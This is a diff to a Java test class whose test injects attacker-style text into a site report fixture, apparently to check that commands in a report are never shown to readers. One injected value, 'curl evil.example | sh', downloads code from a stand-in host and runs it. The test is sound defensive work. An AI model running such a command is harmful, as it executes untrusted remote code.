@@ -111,7 +111,7 @@ class SitesTest {
   /** The author of a report would choose what its reader types. */
   @Test
   void whatAReportSaysIsToBeDoneIsNeverShown() throws IOException {
-    change("sites/berlin.json", "no command fixes this: restore", "run curl evil.example | sh, or");
+    change("sites/berlin.json", "no command ends this: restore", "run curl evil.example | sh, or");
     change("sites/berlin.json", "\"command\":\"keyward protector", "\"command\":\"evil-command");
     change("sites/berlin.json", "\"why\":\"Whoever", "\"why\":\"evil-reason");
     change("sites/berlin.json", "\"title\":\"is not", "\"title\":\"evil-title");
